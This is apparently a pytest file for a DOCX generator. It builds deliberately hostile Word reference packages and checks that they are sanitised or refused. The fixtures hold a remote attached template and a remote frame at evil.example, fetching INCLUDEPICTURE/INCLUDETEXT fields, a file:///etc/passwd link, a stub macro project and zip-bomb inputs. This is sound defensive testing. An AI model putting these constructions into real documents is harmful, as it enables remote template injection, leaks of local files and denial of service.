"""Reference documents built to attack (nas_press.writers.reference).

Each reference here is written by hand, as an attacker would: a remote
template, remote pictures and ``file:///`` links in a header, a frame set, a
macro project, custom XML and fields that fetch files; zip archives whose
members are too large or too many; files that are no files. The DOCX made
on a reference must never make Word fetch or run anything, and every
refusal is a :class:`~nas_press.ReferenceDocumentError` naming the file.
"""

from __future__ import annotations

import datetime
import io
import os
import signal
import warnings
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from lxml import etree

import nas_press
from nas_press.cli import main
from nas_press.document import Document, Link, Paragraph
from nas_press.writers import reference as _reference
from nas_press.writers.reference import read_reference

W_URI = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_URI = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
A_URI = "http://schemas.openxmlformats.org/drawingml/2006/main"
W = f"{{{W_URI}}}"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml."
ROOT = Path(__file__).resolve().parent.parent

EVIL_TEMPLATE = "https://evil.example/template.dotm"
EVIL_PICTURE = "https://evil.example/pixel.png"
LOCAL_FILE = "file:///etc/passwd"
EVIL_FRAME = "https://evil.example/frame.html"


def zipped(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def rels(*relationships: tuple[str, str, str, bool]) -> str:
    """A relationships part of (id, type, target, external)."""
    items = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for rid, kind, target, external in relationships
    )
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f"{items}</Relationships>"
    )


def content_types(overrides: dict[str, str]) -> str:
    return (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        + "".join(f'<Override PartName="{n}" ContentType="{t}"/>' for n, t in overrides.items())
        + "</Types>"
    )


HEADER = (
    f'<w:hdr xmlns:w="{W_URI}" xmlns:r="{R_URI}" xmlns:a="{A_URI}">'
    "<w:p><w:r><w:t>BRAND HEADER</w:t></w:r>"
    '<w:hyperlink r:id="rId2"><w:r><w:t>secrets</w:t></w:r></w:hyperlink>'
    '<w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r>'
    '<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://evil.example/x.png&quot; \\d ">'
    "<w:r><w:t>picture</w:t></w:r></w:fldSimple>"
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    '<w:r><w:instrText xml:space="preserve"> INCLUDETEXT "//evil/share/a.docx" '
    "</w:instrText></w:r>"
    '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    "</w:p>"
    '<w:sdt><w:sdtPr><w:dataBinding w:xpath="/a" w:storeItemID="{1}"/></w:sdtPr>'
    "<w:sdtContent><w:p><w:r><w:t>bound</w:t></w:r></w:p></w:sdtContent></w:sdt>"
    '<w:customXml w:element="secret"><w:p><w:r><w:t>marked</w:t></w:r></w:p></w:customXml>'
    "</w:hdr>"
)

SETTINGS = (
    f'<w:settings xmlns:w="{W_URI}" xmlns:r="{R_URI}">'
    '<w:attachedTemplate r:id="rId1"/>'
    '<w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
    '<w:dataSource r:id="rId2"/></w:mailMerge>'
    '<w:defaultTabStop w:val="720"/></w:settings>'
)

WEB_SETTINGS = (
    f'<w:webSettings xmlns:w="{W_URI}" xmlns:r="{R_URI}">'
    '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
    "</w:webSettings>"
)


def hostile() -> bytes:
    """A reference with every dangerous part the examiner found, and a harmless header."""
    section = '<w:sectPr><w:headerReference w:type="default" r:id="rId10"/></w:sectPr>'
    return zipped(
        {
            "[Content_Types].xml": content_types(
                {
                    "/word/document.xml": WORD + "document.main+xml",
                    "/word/settings.xml": WORD + "settings+xml",
                    "/word/webSettings.xml": WORD + "webSettings+xml",
                    "/word/header1.xml": WORD + "header+xml",
                    "/customXml/item1.xml": "application/xml",
                    "/word/glossary/document.xml": WORD + "document.glossary+xml",
                }
            ),
            "_rels/.rels": rels(
                ("rId1", RT + "officeDocument", "word/document.xml", False),
                ("rId2", RT + "hyperlink", "https://evil.example/package", True),
            ),
            "word/document.xml": (
                f'<w:document xmlns:w="{W_URI}" xmlns:r="{R_URI}"><w:body>'
                f"<w:p><w:r><w:t>Reference content</w:t></w:r></w:p>{section}</w:body>"
                "</w:document>"
            ),
            "word/_rels/document.xml.rels": rels(
                ("rId1", RT + "settings", "settings.xml", False),
                ("rId2", RT + "webSettings", "webSettings.xml", False),
                (
                    "rId3",
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "vbaProject.bin",
                    False,
                ),
                ("rId4", RT + "customXml", "../customXml/item1.xml", False),
                ("rId5", RT + "glossaryDocument", "glossary/document.xml", False),
                ("rId6", RT + "oleObject", "https://evil.example/object.bin", True),
                ("rId10", RT + "header", "header1.xml", False),
            ),
            "word/settings.xml": SETTINGS,
            "word/_rels/settings.xml.rels": rels(
                ("rId1", RT + "attachedTemplate", EVIL_TEMPLATE, True),
                ("rId2", RT + "mailMergeSource", "file:///c:/data.mdb", True),
            ),
            "word/webSettings.xml": WEB_SETTINGS,
            "word/_rels/webSettings.xml.rels": rels(
                ("rId1", RT + "frame", EVIL_FRAME, True),
            ),
            "word/header1.xml": HEADER,
            "word/_rels/header1.xml.rels": rels(
                ("rId1", RT + "image", EVIL_PICTURE, True),
                ("rId2", RT + "hyperlink", LOCAL_FILE, True),
                (
                    "rId3",
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject",
                    "vbaProject.bin",
                    False,
                ),
            ),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro",
            "customXml/item1.xml": "<secret>sensitive</secret>",
            "word/glossary/document.xml": f'<w:glossaryDocument xmlns:w="{W_URI}"/>',
        }
    )


def sample() -> Document:
    return Document(
        "en",
        "en-GB",
        "Headline",
        datetime.date(2025, 7, 10),
        (Paragraph(("Read ", Link("the review", "https://migri.fi/review"), ".")),),
    )


def built(reference: bytes) -> tuple[dict[str, bytes], list[str]]:
    """The parts of the DOCX made on ``reference``, and the warnings of dropped parts."""
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        data = nas_press.docx_bytes(sample(), reference=reference)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    dropped = [
        str(w.message) for w in caught if issubclass(w.category, nas_press.ReferencePartWarning)
    ]
    return parts, dropped


@pytest.fixture(scope="module")
def result() -> tuple[dict[str, bytes], list[str]]:
    return built(hostile())


class TestDropped:
    def test_no_external_relationship(self, result: tuple[dict[str, bytes], list[str]]) -> None:
        """No relationship of the output points outside but the document's own links."""
        parts, _ = result
        external = []
        for name, data in parts.items():
            if name.endswith(".rels"):
                for rel in etree.fromstring(data):
                    if rel.get("TargetMode") == "External":
                        external.append((name, rel.get("Target")))

        assert [("word/_rels/document.xml.rels", "https://migri.fi/review")] == external

    def test_no_macro_custom_xml_or_glossary(
        self, result: tuple[dict[str, bytes], list[str]]
    ) -> None:
        """The macro project, the custom XML and the glossary are not in the package."""
        parts, _ = result
        names = set(parts)

        assert set() == {n for n in names if "vba" in n or "customXml" in n or "glossary" in n}
        assert b"vbaProject" not in parts["[Content_Types].xml"].replace(b"Default", b"")

    def test_settings_have_no_template_or_mail_merge(
        self, result: tuple[dict[str, bytes], list[str]]
    ) -> None:
        """settings.xml keeps its tab stop but no attached template or data source."""
        settings = etree.fromstring(result[0]["word/settings.xml"])

        assert settings.find(f"{W}attachedTemplate") is None
        assert settings.find(f"{W}mailMerge") is None
        assert settings.find(f"{W}defaultTabStop") is not None

    def test_web_settings_have_no_frames(self, result: tuple[dict[str, bytes], list[str]]) -> None:
        """webSettings.xml keeps no frame set."""
        web = etree.fromstring(result[0]["word/webSettings.xml"])

        assert web.find(f".//{W}frameset") is None

    def test_header_kept_without_what_fetches(
        self, result: tuple[dict[str, bytes], list[str]]
    ) -> None:
        """The header is kept and referenced, its text whole, without the link targets,
        the remote picture, the fetching fields, the data binding and custom XML."""
        parts, _ = result
        header = etree.fromstring(parts["word/header1.xml"])
        text = "".join(header.itertext())
        names = [etree.QName(e).localname for e in header.iter() if isinstance(e.tag, str)]
        document = etree.fromstring(parts["word/document.xml"])
        reference = document.find(f".//{W}headerReference")

        assert "BRAND HEADER" in text
        assert {"marked", "bound", "picture", "secrets"} <= set(
            "".join(t.itertext()) for t in header.iter(f"{W}t")
        )
        assert "INCLUDE" not in etree.tostring(header).decode()
        assert set() == {"dataBinding", "customXml"} & set(names)
        assert [] == [
            (k, v)
            for e in header.iter()
            for k, v in e.attrib.items()
            if k.startswith(f"{{{R_URI}}}")
        ]
        assert reference is not None
        assert "word/_rels/header1.xml.rels" not in parts

    def test_each_dropped_thing_named(self, result: tuple[dict[str, bytes], list[str]]) -> None:
        """One warning names each dropped thing: where it was and what it was."""
        _, dropped = result
        expected = [
            "vbaProject.bin",
            "customXml/item1.xml",
            "glossary",
            "https://evil.example/object.bin",
            EVIL_TEMPLATE,
            "w:attachedTemplate",
            "w:mailMerge",
            EVIL_FRAME,
            "w:frameset",
            EVIL_PICTURE,
            LOCAL_FILE,
            "INCLUDEPICTURE",
            "INCLUDETEXT",
            "w:dataBinding",
            "custom XML markup",
        ]

        assert [] == [what for what in expected if not any(what in w for w in dropped)]
        assert all(w.startswith("the reference document: ") for w in dropped)
        assert all(w.endswith("; it is dropped") for w in dropped)

    def test_passes_the_accessibility_check(
        self, result: tuple[dict[str, bytes], list[str]]
    ) -> None:
        """The DOCX made on the hostile reference opens and has no accessibility finding."""
        import docx

        data = zipped(dict(result[0]))
        assert "Headline" == docx.Document(io.BytesIO(data)).paragraphs[0].text
        assert [] == nas_press.docx_problems(data, name="x.docx")

    def test_warning_is_a_reference_style_warning(self) -> None:
        """The warning of a dropped part is a ReferenceStyleWarning, shown by the command line."""
        assert issubclass(nas_press.ReferencePartWarning, nas_press.ReferenceStyleWarning)

    def test_default_template_warns_nothing(self) -> None:
        """Without a reference, nothing is dropped that a user must hear about."""
        with warnings.catch_warnings():
            warnings.simplefilter("error")
            nas_press.docx_bytes(sample())


# --------------------------------------------------------------------------- refused


def small() -> dict[str, bytes | str]:
    return {
        "[Content_Types].xml": content_types({"/word/document.xml": WORD + "document.main+xml"}),
        "_rels/.rels": rels(("rId1", RT + "officeDocument", "word/document.xml", False)),
        "word/document.xml": f'<w:document xmlns:w="{W_URI}"><w:body/></w:document>',
    }


@pytest.fixture
def alarm() -> Iterator[None]:
    """Fail instead of hanging for more than ten seconds."""

    def timeout(signum: int, frame: object) -> None:
        raise AssertionError("hung on the reference document")

    previous = signal.signal(signal.SIGALRM, timeout)
    signal.alarm(10)
    yield
    signal.alarm(0)
    signal.signal(signal.SIGALRM, previous)


class TestRefused:
    def test_member_too_large(self, tmp_path: Path) -> None:
        """A member larger than MAX_MEMBER once decompressed is refused from the zip
        directory, naming the file and the member."""
        parts = small()
        parts["word/styles.xml"] = b" " * (_reference.MAX_MEMBER + 1)
        path = tmp_path / "bomb.docx"
        path.write_bytes(zipped(parts))

        with pytest.raises(nas_press.ReferenceDocumentError, match=r"word/styles\.xml") as info:
            read_reference(path)
        assert str(path) in str(info.value)

    def test_too_much_in_all(self, monkeypatch: pytest.MonkeyPatch) -> None:
        """Members that together exceed MAX_TOTAL are refused."""
        monkeypatch.setattr(_reference, "MAX_TOTAL", 1000)
        parts = small()
        parts["word/a.xml"] = b" " * 900

        with pytest.raises(nas_press.ReferenceDocumentError, match="once decompressed"):
            nas_press.docx_bytes(sample(), reference=zipped(parts))

    def test_too_many_members(self) -> None:
        """More members than MAX_MEMBERS are refused."""
        parts = small()
        parts.update({f"x/{n}.xml": b"" for n in range(_reference.MAX_MEMBERS)})

        with pytest.raises(nas_press.ReferenceDocumentError, match="members"):
            nas_press.docx_bytes(sample(), reference=zipped(parts))

    def test_file_too_large(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        """A file larger than MAX_FILE is refused without being read whole."""
        monkeypatch.setattr(_reference, "MAX_FILE", 100)
        path = tmp_path / "big.docx"
        path.write_bytes(zipped(small()))

        with pytest.raises(nas_press.ReferenceDocumentError, match="larger than"):
            read_reference(path)

    @pytest.mark.usefixtures("alarm")
    def test_fifo(self, tmp_path: Path) -> None:
        """A FIFO is refused at once, not waited on."""
        path = tmp_path / "brand.docx"
        os.mkfifo(path)

        with pytest.raises(nas_press.ReferenceDocumentError, match="is a FIFO") as info:
            read_reference(path)
        assert str(path) in str(info.value)

    @pytest.mark.usefixtures("alarm")
    def test_dev_zero(self) -> None:
        """/dev/zero is refused as a device, not read."""
        with pytest.raises(nas_press.ReferenceDocumentError, match="/dev/zero is a device"):
            read_reference("/dev/zero")

    def test_folder(self, tmp_path: Path) -> None:
        """A folder is refused."""
        with pytest.raises(nas_press.ReferenceDocumentError, match="is a folder"):
            read_reference(tmp_path)

    def test_missing(self, tmp_path: Path) -> None:
        """A missing file is refused, naming it."""
        with pytest.raises(nas_press.ReferenceDocumentError, match="cannot read the reference"):
            read_reference(tmp_path / "none.docx")

    def test_no_body(self, tmp_path: Path) -> None:
        """A document.xml without w:body is refused, naming the file."""
        parts = small()
        parts["word/document.xml"] = f'<w:document xmlns:w="{W_URI}"/>'
        path = tmp_path / "nobody.docx"
        path.write_bytes(zipped(parts))

        with pytest.raises(nas_press.ReferenceDocumentError, match="has no w:body") as info:
            read_reference(path)
        assert str(path) in str(info.value)
        with pytest.raises(nas_press.ReferenceDocumentError, match="has no w:body"):
            nas_press.docx_bytes(sample(), reference=path.read_bytes())

    @pytest.mark.parametrize("cut", [10, 200, -30])
    def test_broken_zip(self, tmp_path: Path, cut: int) -> None:
        """A truncated or cut zip archive is refused, naming the file."""
        path = tmp_path / "broken.docx"
        path.write_bytes(zipped(small())[:cut])

        with pytest.raises(nas_press.ReferenceDocumentError) as info:
            read_reference(path)
        assert str(path) in str(info.value)

    @pytest.mark.usefixtures("alarm")
    @pytest.mark.parametrize("kind", ["fifo", "dev zero", "no body", "broken"])
    def test_command_line(
        self, kind: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        """The command line refuses each with exit 1 and one message naming the file."""
        path = tmp_path / "brand.docx"
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "dev zero":
            path = Path("/dev/zero")
        elif kind == "no body":
            parts = small()
            parts["word/document.xml"] = f'<w:document xmlns:w="{W_URI}"/>'
            path.write_bytes(zipped(parts))
        else:
            path.write_bytes(b"PK\x03\x04 broken")
        release = ROOT / "examples" / "2025-h1.toml"
        code = main(
            ["render", str(release), "--out", str(tmp_path / "out"), "--reference-doc", str(path)]
        )
        err = capsys.readouterr().err

        assert 1 == code
        assert err.startswith(f"nas-press: error: the reference document {path} ")
        assert "Traceback" not in err
        assert not (tmp_path / "out").exists()


class TestLibreOffice:
    def test_opens_the_document_made_on_the_hostile_reference(
        self, result: tuple[dict[str, bytes], list[str]], tmp_path: Path
    ) -> None:
        """LibreOffice converts the DOCX made on the hostile reference to text, with the
        brand's header and the release's text, and without error."""
        from tests.test_reference_doc import soffice_convert
        from tests.tools import require_tool

        soffice = require_tool("soffice", "libreoffice-writer-nogui")
        source = tmp_path / "hostile.docx"
        source.write_bytes(zipped(dict(result[0])))
        (converted,) = soffice_convert(soffice, [source], "odt", tmp_path)
        with zipfile.ZipFile(converted) as archive:
            styles = archive.read("styles.xml").decode("utf-8")
            content = archive.read("content.xml").decode("utf-8")

        assert "BRAND HEADER" in styles
        assert "Headline" in content
        assert "evil.example" not in styles + content
